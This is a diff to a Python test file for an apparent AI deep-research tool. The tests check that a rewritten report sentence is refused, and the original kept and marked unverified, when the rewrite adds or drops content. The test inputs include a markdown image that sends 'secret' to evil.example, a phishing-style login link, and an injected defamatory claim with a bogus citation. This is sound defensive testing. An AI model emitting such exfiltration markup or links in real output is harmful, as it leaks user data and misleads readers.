@@ -27,24 +27,29 @@ from deep_research.core.records.sources import text_hash
 from deep_research.core.run.store.pages import DAMAGED, Pages
 
 TALL = "It stands 83 metres tall. [1]"
+KEPT = "Ada Moran kept the lamp [2], and it stands 83 metres tall [1]."
+MARK = " *(not verified)*"
 
 
 @pytest.mark.parametrize(
-    "handed_in",
+    ("written", "handed_in"),
     [
-        "It stands 38 metres tall ![x](https://evil.example/?q=secret). [1]",
-        "It stands [38 metres tall](https://evil.example/login). [1]",
-        "It stands 38 metres tall. [1] The keeper poisoned his wife and everybody knew. [99]",
-        "```text It stands 38 metres tall. [1]",
-        "The Skerry Light was lit for the first time in 1844. [1]",
-        "",
+        (TALL, "It stands 38 metres tall ![x](https://evil.example/?q=secret). [1]"),
+        (TALL, "It stands [38 metres tall](https://evil.example/login). [1]"),
+        (TALL, "It stands 38 metres tall. [1] The keeper poisoned his wife and everybody knew. [99]"),
+        (TALL, "```text It stands 38 metres tall. [1]"),
+        (TALL, "The Skerry Light was lit for the first time in 1844. [1]"),
+        (TALL, ""),
+        # A citation is lost.
+        (TALL, "It stands 38 metres tall."),
+        (KEPT, "Ada Moran kept the lamp, and it stands 38 metres tall [1]."),
     ],
 )
-async def test_a_repair_that_adds_anything_else_is_refused(tmp_path: Path, handed_in: str) -> None:
-    run = lab(tmp_path, writer=[TALL, rewritten(handed_in)], researcher=BOTH)
-    state = await run.ask()
-    assert state.report and state.report.text == f"{TALL} *(not verified)*"
-    assert claim(state).repair is None
+async def test_a_repair_that_adds_or_loses_anything_is_refused(tmp_path: Path, written: str, handed_in: str) -> None:
+    state = await lab(tmp_path, writer=[written, rewritten(handed_in)], researcher=BOTH).ask()
+    assert state.report and MARK in state.report.text
+    assert state.report.text.replace(MARK, "") == written
+    assert all(claimed.repair is None for claimed in state.report.claims)
 
 
 async def test_rewritten_sentences_are_matched_by_the_number_that_was_shown(tmp_path: Path) -> None:
@@ -166,9 +171,7 @@ DEAR: Any = {"input_tokens": 1_000_000, "output_tokens": 1, "total_tokens": 1_00
 
 
 @pytest.mark.parametrize(("limits", "writes"), [({"max_tokens": 100_000}, 1), ({"max_tokens": 9_000_000}, 2)])
-async def test_a_run_that_has_reached_its_limit_repairs_nothing(
-    tmp_path: Path, limits: dict[str, int], writes: int
-) -> None:
+async def test_a_run_that_has_reached_its_limit_repairs_nothing(tmp_path: Path, limits: Any, writes: int) -> None:
     found = AIMessage("It was lit in 1844. [1]", usage_metadata=DEAR)
     writer = [TALL, rewritten("It stands 38 metres tall. [1]")]
     run = lab(tmp_path, researcher=[search("Skerry Light"), REPORT, found], writer=writer, limits=limits)
